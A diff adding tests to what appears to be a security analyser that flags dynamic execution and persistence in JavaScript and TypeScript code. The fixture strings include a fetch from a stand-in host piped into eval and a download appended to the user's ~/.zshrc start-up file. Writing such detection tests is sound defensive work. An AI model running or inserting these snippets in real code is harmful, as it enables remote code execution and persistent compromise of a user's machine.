@@ -256,3 +256,16 @@ def test_an_inline_node_hook_is_read_as_javascript() -> None:
 def test_a_package_json_without_hooks_says_nothing() -> None:
     assert package_json.hook_facts("package.json", '{"scripts": {"build": "tsc"}}') is None
     assert package_json.hook_facts("package.json", "{not json") is None
+
+
+def test_a_sink_handed_over_as_a_callback_runs_what_the_promise_yields() -> None:
+    found = facts("fetch('https://x.example/p').then((r) => r.text()).then(eval);\n")
+    assert FETCHED in kinds(found[DYNAMIC_EXEC][0])
+    assert DYNAMIC_EXEC not in facts("[1, 2].map(Function);\n")
+
+
+def test_downloaded_text_appended_to_a_start_up_file_carries_the_download() -> None:
+    found = facts("import fs = require('fs');\nimport os from 'os';\n"
+                  "const d = await (await fetch('https://y.example/q')).text();\n"
+                  "fs.appendFileSync(os.homedir() + '/.zshrc', d);\n", "t.ts")
+    assert FETCHED in kinds(found[PERSISTENCE][0])
